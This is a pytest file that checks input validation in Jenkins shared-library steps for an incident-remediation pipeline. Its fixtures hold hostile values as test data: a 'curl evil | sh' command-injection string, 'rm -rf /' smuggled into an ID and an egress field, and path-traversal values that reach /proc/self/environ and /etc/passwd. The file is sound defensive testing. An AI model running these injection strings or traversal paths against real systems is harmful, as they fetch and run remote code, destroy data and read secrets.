"""vars/ steps under Groovy 2.4.21 (Jenkins core's version) with recorded stub steps."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from pathops_contracts.errors import InvalidInput
from pathops_contracts.identifiers import TIME_WINDOW

ROOT = Path(__file__).resolve().parents[2]
SHA = "4f2c1d8e9a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"
DIGEST = "sha256:" + "3" * 64
EVIL = "x'; curl evil | sh; '"
GITOPS = "https://gitlab.demo.pathops.io/shop/shop-frontend-gitops.git"
# The controller's global environment (jenkins/casc.yaml): the only source of endpoints a step does not get.
GLOBAL_ENV = {"PATHOPS_MINIO_ENDPOINT": "https://minio.pathops.example",
              "PATHOPS_CONTROL_PLANE_URL": "https://control-plane.pathops.example",
              "PATHOPS_GITLAB_URL": "https://gitlab.pathops.example",
              "PATHOPS_JENKINS_WEBHOOK_URL": "https://control-plane.pathops.example/webhooks/jenkins",
              "PATHOPS_REGISTRY": "harbor.pathops.example/pathops",
              "PATHOPS_EGRESS_CONTROL_PLANE": "10.40.0.7/32:8443", "PATHOPS_EGRESS_KUBE_API": "10.43.0.1/32:443"}

CASES: dict[str, dict[str, Any]] = {
    "evidence defaults": {"step": "scheduleEvidenceCollector",
                          "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS}},
    "evidence production": {"step": "scheduleEvidenceCollector",
                            "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                       "env": "production", "timeWindow": "1h", "workload": "deployment/shop-frontend",
                                       "gitlabCredentialsId": "other-token"}},
    "evidence missing app": {"step": "scheduleEvidenceCollector",
                             "config": {"incidentId": "INC-1042", "gitopsRepo": GITOPS}},
    "evidence evil incident": {"step": "scheduleEvidenceCollector",
                               "config": {"app": "shop-frontend", "incidentId": EVIL, "gitopsRepo": GITOPS}},
    "evidence bad env": {"step": "scheduleEvidenceCollector",
                         "config": {"app": "shop-frontend", "incidentId": "INC-1", "gitopsRepo": GITOPS,
                                    "env": "staging"}},
    "fix schedule": {"step": "scheduleFixAgent",
                     "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                "snapshotId": "snap-" + "a" * 32,
                                "image": f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend:x@{DIGEST}"}},
    "fix schedule without digest": {"step": "scheduleFixAgent",
                                    "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                               "snapshotId": "snap-" + "a" * 32,
                                               "image": "harbor.demo.pathops.io/pathops/agents/fix:latest"}},
    "build fix agent": {"step": "buildFixAgent",
                        "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                   "srcRepo": "https://gitlab.demo.pathops.io/shop/shop-frontend.git",
                                   "sourceCommitSha": SHA, "snapshotId": "snap-" + "a" * 32},
                        "files": {"fix-agent-image.txt":
                                  f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@{DIGEST}\n"}},
    "build fix agent short sha": {"step": "buildFixAgent",
                                  "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                             "srcRepo": "https://gitlab.demo.pathops.io/shop/shop-frontend.git",
                                             "sourceCommitSha": SHA[:12], "snapshotId": "snap-" + "a" * 32}},
    "mr defaults": {"step": "createMrFromPatch",
                    "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
                               "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}},
    "mr evil title": {"step": "createMrFromPatch",
                      "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
                                 "patchId": "patch-" + "b" * 32, "changesetId": "CS-17", "titlePrefix": EVIL,
                                 "draft": False, "labels": ["team::shop", "sev::2"]}},
    "mr evil label": {"step": "createMrFromPatch",
                      "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
                                 "patchId": "patch-" + "b" * 32, "changesetId": "CS-17", "labels": [EVIL]}},
    "mr alert fields": {"step": "createMrFromPatch",
                        "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
                                   "patchId": "patch-" + "b" * 32, "changesetId": "CS-17",
                                   "mrFields": {"alertname": "KubeDeploymentReplicasMismatch", "severity": "warning",
                                                "startsAt": "2026-11-27T08:52:00Z", "summary": EVIL}}},
    "mr evil field": {"step": "createMrFromPatch",
                      "config": {"srcRepo": "shop/shop-frontend", "sourceCommitSha": SHA,
                                 "patchId": "patch-" + "b" * 32, "changesetId": "CS-17",
                                 "mrFields": {"alertname": "x\nsummary=forged"}}},
    "mr evil repo": {"step": "createMrFromPatch",
                     "config": {"srcRepo": "shop/../../etc", "sourceCommitSha": SHA,
                                "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}},
    "verification": {"step": "scheduleVerificationAgent",
                     "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                                "expectedCommitSha": SHA, "specFile": "deploy/verification.yaml"}},
    "verification with its incident": {"step": "scheduleVerificationAgent",
                                       "config": {"app": "shop-frontend", "verificationId": "VER-7",
                                                  "incidentId": "INC-1042", "gitopsRepo": GITOPS}},
    "verification with an incident id": {"step": "scheduleVerificationAgent",
                                         "config": {"app": "shop-frontend", "verificationId": "INC-1042",
                                                    "gitopsRepo": GITOPS}},
    "verification of a patch": {"step": "scheduleVerificationAgent",
                                "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                                           "expectedCommitSha": SHA, "patchId": "patch-" + "c" * 32}},
    "verification evil patch": {"step": "scheduleVerificationAgent",
                                "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                                           "patchId": "patch-x; curl evil"}},
    **{f"verification spec {name}": {
        "step": "scheduleVerificationAgent",
        "config": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS, key: value}}
       for name, (key, value) in {
           "absolute": ("specFile", "/proc/self/environ"), "dotdot": ("specFile", "../../proc/self/environ"),
           "inner dotdot": ("specFile", "deploy/../../../etc/passwd"), "hidden": ("specFile", "deploy/.git/config"),
           "double slash": ("specFile", "deploy//x.yaml"), "root dotdot": ("specRoot", ".."),
           "root absolute": ("specRoot", "/"), "root dot": ("specRoot", "."),
       }.items()},
    **{f"evidence window {window}": {
        "step": "scheduleEvidenceCollector",
        "config": {"app": "shop-frontend", "incidentId": "INC-1", "gitopsRepo": GITOPS, "timeWindow": window}}
       for window in ("7d", "1h30m", "2026-11-27T09:00:00Z/2026-11-27T10:00:00Z", "99999999999999999999d", "8d",
                      "0m", "0001-01-01T00:00:00Z/0001-01-02T00:00:00Z", "2026-02-30T09:00:00Z/2026-03-01T09:00:00Z",
                      "2026-11-27T10:00:00Z/2026-11-27T09:00:00Z")},
    "mr from verification": {"step": "updateMrFromVerification",
                             "config": {"srcRepo": "shop/shop-frontend", "mrIid": 12, "reportId": "report-" + "d" * 32,
                                        "verificationId": "VER-7"}},
    "mr from verification evil iid": {"step": "updateMrFromVerification",
                                      "config": {"srcRepo": "shop/shop-frontend", "mrIid": "1; rm -rf /",
                                                 "reportId": "report-" + "d" * 32}},
    "mr from verification patch id": {"step": "updateMrFromVerification",
                                      "config": {"srcRepo": "shop/shop-frontend", "mrIid": 12,
                                                 "reportId": "patch-" + "d" * 32}},
    "notify": {"step": "notifyControlPlane", "config": {"job": "create-mr-from-patch", "changesetId": "CS-17"}},
    "notify bad status": {"step": "notifyControlPlane", "config": {"job": "x", "status": "exploded"}},
    **{f"no global {variable}": {"step": step, "env": {k: v for k, v in GLOBAL_ENV.items() if k != variable},
                                 "config": config}
       for variable, step, config in [
           ("PATHOPS_MINIO_ENDPOINT", "scheduleEvidenceCollector",
            {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS}),
           ("PATHOPS_CONTROL_PLANE_URL", "scheduleFixAgent",
            {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS, "snapshotId": "snap-" + "a" * 32,
             "image": f"harbor.pathops.example/pathops/agents/fix:x@{DIGEST}"}),
           ("PATHOPS_REGISTRY", "scheduleVerificationAgent",
            {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS}),
           ("PATHOPS_GITLAB_URL", "createMrFromPatch",
            {"srcRepo": "shop/shop-frontend", "patchId": "patch-" + "b" * 32, "changesetId": "CS-17"}),
           ("PATHOPS_JENKINS_WEBHOOK_URL", "notifyControlPlane", {"job": "create-mr-from-patch"}),
           ("PATHOPS_EGRESS_CONTROL_PLANE", "scheduleEvidenceCollector",
            {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS}),
           ("PATHOPS_EGRESS_KUBE_API", "scheduleVerificationAgent",
            {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS}),
       ]},
    "fix schedule with an llm egress": {
        "step": "scheduleFixAgent", "env": {**GLOBAL_ENV, "PATHOPS_EGRESS_LLM": "10.50.0.9/32:443"},
        "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                   "snapshotId": "snap-" + "a" * 32, "image": f"harbor.pathops.example/pathops/agents/fix:x@{DIGEST}"}},
    "evidence evil egress": {"step": "scheduleEvidenceCollector",
                             "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                                        "kubeApiEgress": "0.0.0.0/0:443; rm -rf /"}},
    "explicit endpoints without a global environment": {
        "step": "scheduleEvidenceCollector", "env": {},
        "config": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                   "minioEndpoint": "https://minio.other.example", "controlPlaneUrl": "https://cp.other.example",
                   "controlPlaneEgress": "ns/pathops:8443", "kubeApiEgress": "172.20.0.1/32:443",
                   "image": "harbor.other.example/pathops/evidence-collector:0.1.0"}},
}


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    groovy = shutil.which("groovy")
    if groovy is None:
        pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
    cases = tmp_path_factory.mktemp("groovy") / "cases.json"
    cases.write_text(json.dumps([{"name": name, "env": GLOBAL_ENV, **case} for name, case in CASES.items()]))
    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
    result = subprocess.run([groovy, str(Path(__file__).parent / "harness.groovy"), str(ROOT), str(cases)],
                            capture_output=True, text=True, env=env, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    return {entry["name"]: entry for entry in json.loads(result.stdout.strip().splitlines()[-1])}


def shells(result: dict[str, Any]) -> list[dict[str, Any]]:
    return [call for call in result["calls"] if call["step"] == "sh"]


def test_evidence_collector_defaults(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["evidence defaults"])
    assert sh["script"] == "gitops-patcher schedule" and not sh["interpolated"]
    assert sh["env"] == {
        "GITLAB_TOKEN": "****", "AGENT": "evidence-collector", "APP_ID": "shop-frontend", "ENV": "preflight",
        "INCIDENT_ID": "INC-1042", "TARGET_NAMESPACE": "shop-frontend-preflight",
        "AGENTS_NAMESPACE": "shop-frontend-agents", "TIME_WINDOW": "30m",
        "AGENT_IMAGE": "harbor.pathops.example/pathops/evidence-collector:0.1.0", "GITOPS_REPO_URL": GITOPS,
        "GITOPS_BRANCH": "main", "MINIO_ENDPOINT": "https://minio.pathops.example",
        "MINIO_BUCKET": "pathops-evidence", "CONTROL_PLANE_URL": "https://control-plane.pathops.example",
        "EGRESS_CONTROL_PLANE": "10.40.0.7/32:8443", "EGRESS_KUBE_API": "10.43.0.1/32:443"}
    credentials = next(c for c in results["evidence defaults"]["calls"] if c["step"] == "withCredentials")
    assert credentials["bindings"] == [{"type": "string", "credentialsId": "pathops-gitlab-token",
                                        "variable": "GITLAB_TOKEN"}]


def test_evidence_collector_options(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["evidence production"])
    assert sh["env"]["TARGET_NAMESPACE"] == "shop-frontend-production" and sh["env"]["ENV"] == "production"
    assert sh["env"]["TIME_WINDOW"] == "1h" and sh["env"]["WORKLOAD"] == "deployment/shop-frontend"
    credentials = next(c for c in results["evidence production"]["calls"] if c["step"] == "withCredentials")
    assert credentials["bindings"][0]["credentialsId"] == "other-token"


@pytest.mark.parametrize(("case", "message"), [
    ("evidence missing app", "[scheduleEvidenceCollector] app is required"),
    ("evidence evil incident", "[scheduleEvidenceCollector] incidentId is not a valid id"),
    ("evidence bad env", "[scheduleEvidenceCollector] env is not a valid env"),
    ("evidence evil egress", "[scheduleEvidenceCollector] kubeApiEgress is not a valid egress"),
    ("fix schedule without digest", "[scheduleFixAgent] image must be pinned by digest (name@sha256:...)"),
    ("build fix agent short sha", "[buildFixAgent] sourceCommitSha is not a valid sha"),
    ("mr evil label", "[createMrFromPatch] labels must be short words (letters, digits, : . _ -)"),
    ("mr evil repo", "[createMrFromPatch] srcRepo is not a valid projectPath"),
    ("mr evil field", "[createMrFromPatch] mrFields.alertname must be one line of at most 500 characters"),
    ("notify bad status", "[notifyControlPlane] status must be a Jenkins build result"),
])
def test_malformed_parameters_are_refused_before_anything_runs(results: dict[str, dict[str, Any]], case: str,
                                                                message: str) -> None:
    assert results[case]["error"] == message
    assert shells(results[case]) == []
    assert not any(c["step"] == "withCredentials" for c in results[case]["calls"])


def test_fix_agent_schedule_pins_the_digest(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["fix schedule"])
    assert sh["script"] == "gitops-patcher schedule"
    assert sh["env"]["AGENT"] == "fix-agent" and sh["env"]["AGENT_IMAGE"].endswith(DIGEST)
    assert sh["env"]["SNAPSHOT_ID"] == "snap-" + "a" * 32


def test_build_fix_agent_builds_then_schedules_the_pushed_digest(results: dict[str, dict[str, Any]]) -> None:
    result = results["build fix agent"]
    build, schedule = shells(result)
    assert build["script"] == "fix-agent build-image"
    assert build["env"]["SOURCE_COMMIT_SHA"] == SHA and build["env"]["IMAGE_BUILDER"] == "buildah"
    assert build["env"]["REGISTRY_USERNAME"] == build["env"]["REGISTRY_PASSWORD"] == "****"
    assert build["env"]["HARBOR_REPO"] == "harbor.pathops.example/pathops/agents"
    assert schedule["script"] == "gitops-patcher schedule"
    assert schedule["env"]["AGENT_IMAGE"] == f"harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@{DIGEST}"
    assert result["returned"] == schedule["env"]["AGENT_IMAGE"]
    assert [c["step"] for c in result["calls"]].count("scheduleFixAgent") == 1


def test_merge_request_step(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["mr defaults"])
    assert sh["script"] == "mr-creator create"
    env = sh["env"]
    assert {k: env[k] for k in ("GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY",
                                "CALLBACK_SIGNING_KEY")} == dict.fromkeys(
        ("GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "CALLBACK_SIGNING_KEY"), "****")
    assert env["SRC_REPO"] == "shop/shop-frontend" and env["PATCH_ID"] == "patch-" + "b" * 32
    assert env["MR_DRAFT"] == "true" and env["MR_LABELS"] == ""
    assert env["CONTROL_PLANE_CALLBACK_URL"] == "https://control-plane.pathops.example/webhooks/jenkins"
    assert env["GITLAB_URL"] == "https://gitlab.pathops.example" and env["SOURCE_COMMIT_SHA"] == SHA


def test_hostile_text_reaches_the_shell_only_as_an_environment_value(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["mr evil title"])
    assert sh["script"] == "mr-creator create" and not sh["interpolated"]
    assert sh["env"]["MR_TITLE_PREFIX"] == EVIL
    assert sh["env"]["MR_DRAFT"] == "false" and sh["env"]["MR_LABELS"] == "team::shop,sev::2"
    assert all(EVIL not in (call.get("script") or "") for call in results["mr evil title"]["calls"])


def test_alert_fields_reach_mr_creator_one_per_line(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["mr alert fields"])
    assert sh["env"]["MR_FIELDS"].split("\n") == ["alertname=KubeDeploymentReplicasMismatch", "severity=warning",
                                                  "startsAt=2026-11-27T08:52:00Z", f"summary={EVIL}"]
    assert not sh["interpolated"] and shells(results["mr defaults"])[0]["env"]["MR_FIELDS"] == ""


def test_verification_step(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["verification"])
    assert sh["env"]["AGENT"] == "verification-agent" and sh["env"]["ENV"] == "preflight"
    assert sh["env"]["EXPECTED_COMMIT_SHA"] == SHA and sh["env"]["VERIFICATION_SPEC_FILE"] == "deploy/verification.yaml"
    assert sh["env"]["VERIFICATION_SPEC_ROOT"] == "verification-spec"
    # Its own id; an incident only when the control plane names one, never the verification id copied.
    assert sh["env"]["VERIFICATION_ID"] == "VER-7" and "INCIDENT_ID" not in sh["env"]
    (with_incident,) = shells(results["verification with its incident"])
    assert with_incident["env"]["INCIDENT_ID"] == "INC-1042" and with_incident["env"]["VERIFICATION_ID"] == "VER-7"
    assert results["verification with an incident id"]["error"] == (
        "[scheduleVerificationAgent] verificationId is not a valid verificationId")


def test_verification_of_a_patch_takes_the_spec_from_its_bundle(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["verification of a patch"])
    assert sh["script"] == "gitops-patcher schedule" and sh["env"]["PATCH_ID"] == "patch-" + "c" * 32
    assert "VERIFICATION_SPEC_FILE" not in sh["env"] and "VERIFICATION_SPEC_ROOT" not in sh["env"]
    assert sh["env"]["AWS_ACCESS_KEY_ID"] == sh["env"]["AWS_SECRET_ACCESS_KEY"] == "****"
    assert results["verification evil patch"]["error"] == "[scheduleVerificationAgent] patchId is not a valid patchId"
    assert shells(results["verification evil patch"]) == []


@pytest.mark.parametrize("case", [name for name in CASES if name.startswith("verification spec ")])
def test_a_spec_path_that_could_leave_its_root_is_refused_before_anything_runs(
        results: dict[str, dict[str, Any]], case: str) -> None:
    key = next(iter(set(CASES[case]["config"]) & {"specFile", "specRoot"}))
    assert results[case]["error"] == f"[scheduleVerificationAgent] {key} is not a valid path"
    assert shells(results[case]) == []


@pytest.mark.parametrize("window", [name.removeprefix("evidence window ") for name in CASES
                                    if name.startswith("evidence window ")])
def test_time_windows_follow_the_python_rule(results: dict[str, dict[str, Any]], window: str) -> None:
    result = results[f"evidence window {window}"]
    try:
        TIME_WINDOW.check(window)
    except InvalidInput:
        assert result["error"] == ("[scheduleEvidenceCollector] timeWindow must be a window of 1s to 7d "
                                   "in the years 2000-2999")
        assert shells(result) == []
    else:
        assert result["error"] is None
        assert shells(result)[0]["env"]["TIME_WINDOW"] == window


def test_the_verification_job_reads_the_spec_from_the_default_branch_only() -> None:
    """The spec that judges a change must not come from it: its own checkout, a fixed branch."""
    pipeline = (ROOT / "jenkins" / "schedule-verification-agent" / "Jenkinsfile").read_text()
    fetch = pipeline[pipeline.index("stage('Fetch the verification spec"):pipeline.index("stage('Schedule")]
    assert "dir('verification-spec')" in fetch and "deleteDir()" in fetch
    assert 'branches: [[name: "refs/heads/${env.SPEC_BRANCH}"]]' in fetch
    # Only whether to fetch depends on a parameter (a patch brings its spec), never what is fetched.
    assert "when { expression { !params.patch_id } }" in fetch
    assert "SPEC_BRANCH = 'main'" in pipeline and "params." not in fetch.replace("params.app", "").replace(
        "!params.patch_id", "")
    assert "patchId: params.patch_id ?: null" in pipeline
    assert "specRoot: 'verification-spec'" in pipeline


def test_update_mr_from_verification_step(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["mr from verification"])
    assert sh["script"] == "mr-creator update-from-verification" and not sh["interpolated"]
    env = sh["env"]
    assert env["MR_IID"] == "12" and env["REPORT_ID"] == "report-" + "d" * 32 and env["VERIFICATION_ID"] == "VER-7"
    assert env["GITLAB_TOKEN"] == env["AWS_SECRET_ACCESS_KEY"] == env["CALLBACK_SIGNING_KEY"] == "****"
    assert results["mr from verification evil iid"]["error"] == "[updateMrFromVerification] mrIid is not a valid mrIid"
    assert results["mr from verification patch id"]["error"] == (
        "[updateMrFromVerification] reportId is not a valid reportId")
    assert shells(results["mr from verification evil iid"]) == shells(results["mr from verification patch id"]) == []
    jobs = (ROOT / "jenkins" / "jobs.groovy").read_text()
    assert "'update-mr-from-verification'" in jobs
    assert "updateMrFromVerification(" in (ROOT / "jenkins" / "update-mr-from-verification" / "Jenkinsfile").read_text()


def test_notify_reports_the_build_result(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["notify"])
    assert sh["script"] == "jenkins-notifier notify-job"
    assert sh["env"]["JOB_STATUS"] == "failure" and sh["env"]["CHANGESET_ID"] == "CS-17"
    assert sh["env"]["BUILD_URL_PATHOPS"] == "https://jenkins.demo.pathops.io/job/x/7/"


def test_every_step_is_documented() -> None:
    steps = sorted(p.stem for p in (ROOT / "vars").glob("*.groovy"))
    assert steps == sorted(p.stem for p in (ROOT / "vars").glob("*.txt"))
    assert steps == sorted({case["step"] for case in CASES.values()})


JENKINSFILES = [ROOT / "Jenkinsfile", *sorted((ROOT / "jenkins").glob("*/Jenkinsfile"))]


@pytest.fixture(scope="module")
def pipelines() -> dict[str, dict[str, Any]]:
    """Each Jenkinsfile run under jenkinsfile_harness.groovy: which library it loaded, what it called."""
    groovy = shutil.which("groovy")
    if groovy is None:
        pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
    result = subprocess.run([groovy, str(Path(__file__).parent / "jenkinsfile_harness.groovy"), str(ROOT),
                             *map(str, JENKINSFILES)], capture_output=True, text=True, env=env, timeout=300,
                            check=False)
    assert result.returncode == 0, result.stderr
    runs = json.loads(result.stdout.strip().splitlines()[-1])
    return {str(Path(run["path"]).relative_to(ROOT)): run for run in runs}


@pytest.mark.parametrize("jenkinsfile", [str(path.relative_to(ROOT)) for path in JENKINSFILES])
def test_every_pipeline_loads_the_library_before_it_uses_it(pipelines: dict[str, dict[str, Any]],
                                                             jenkinsfile: str) -> None:
    run = pipelines[jenkinsfile]
    assert run["error"] is None, f"{jenkinsfile}: {run['error']}"
    assert [call["args"] for call in run["calls"] if call["step"] == "libraryResource"] == [
        ["io/pathops/jenkins/pod-template.yaml"]]


def test_this_repositorys_ci_loads_the_library_from_the_commit_under_test(
        pipelines: dict[str, dict[str, Any]]) -> None:
    (library,) = pipelines["Jenkinsfile"]["libraries"]
    assert library == {"identifier": "pathops-golden-path@ci", "how": "library", "retriever": "legacySCM"}


def test_the_paths_the_jenkins_readme_points_at_exist() -> None:
    text = (ROOT / "jenkins" / "README.md").read_text(encoding="utf-8")
    paths = set(re.findall(r"`((?:tests|src|vars|resources|jenkins)/[^`\s<>]+)`", text))
    assert "tests/shared_library/harness.groovy" in paths
    assert [path for path in sorted(paths) if not (ROOT / path).exists()] == []


@pytest.mark.parametrize(("variable", "step", "argument"), [
    ("PATHOPS_MINIO_ENDPOINT", "scheduleEvidenceCollector", "minioEndpoint"),
    ("PATHOPS_CONTROL_PLANE_URL", "scheduleFixAgent", "controlPlaneUrl"),
    ("PATHOPS_REGISTRY", "scheduleVerificationAgent", "image"),
    ("PATHOPS_GITLAB_URL", "createMrFromPatch", "gitlabUrl"),
    ("PATHOPS_JENKINS_WEBHOOK_URL", "notifyControlPlane", "callbackUrl"),
    ("PATHOPS_EGRESS_CONTROL_PLANE", "scheduleEvidenceCollector", "controlPlaneEgress"),
    ("PATHOPS_EGRESS_KUBE_API", "scheduleVerificationAgent", "kubeApiEgress"),
])
def test_a_missing_endpoint_stops_the_step_naming_the_argument_and_the_variable(
        results: dict[str, dict[str, Any]], variable: str, step: str, argument: str) -> None:
    # No demo host as a default: a forgotten endpoint must not render a Job that points elsewhere.
    result = results[f"no global {variable}"]
    assert result["error"] == (f"[{step}] {argument} is required: pass it or set {variable} "
                               "in the Jenkins global environment")
    assert shells(result) == []


def test_endpoints_passed_to_a_step_need_no_global_environment(results: dict[str, dict[str, Any]]) -> None:
    (sh,) = shells(results["explicit endpoints without a global environment"])
    assert (sh["env"]["MINIO_ENDPOINT"], sh["env"]["CONTROL_PLANE_URL"]) == (
        "https://minio.other.example", "https://cp.other.example")
    assert (sh["env"]["EGRESS_CONTROL_PLANE"], sh["env"]["EGRESS_KUBE_API"]) == ("ns/pathops:8443", "172.20.0.1/32:443")


def test_the_llm_egress_is_passed_only_when_set(results: dict[str, dict[str, Any]]) -> None:
    # Without one, gitops-patcher renders no LLM egress rule: never a guessed address.
    (with_llm,) = shells(results["fix schedule with an llm egress"])
    assert with_llm["env"]["EGRESS_LLM"] == "10.50.0.9/32:443"
    (without,) = shells(results["fix schedule"])
    assert "EGRESS_LLM" not in without["env"]


def test_no_step_or_pipeline_defaults_to_a_demo_host() -> None:
    steps = [*ROOT.glob("vars/*.groovy"), *ROOT.glob("src/**/*.groovy"), *JENKINSFILES]
    assert [str(path.relative_to(ROOT)) for path in steps if "demo.pathops.io" in path.read_text()] == []
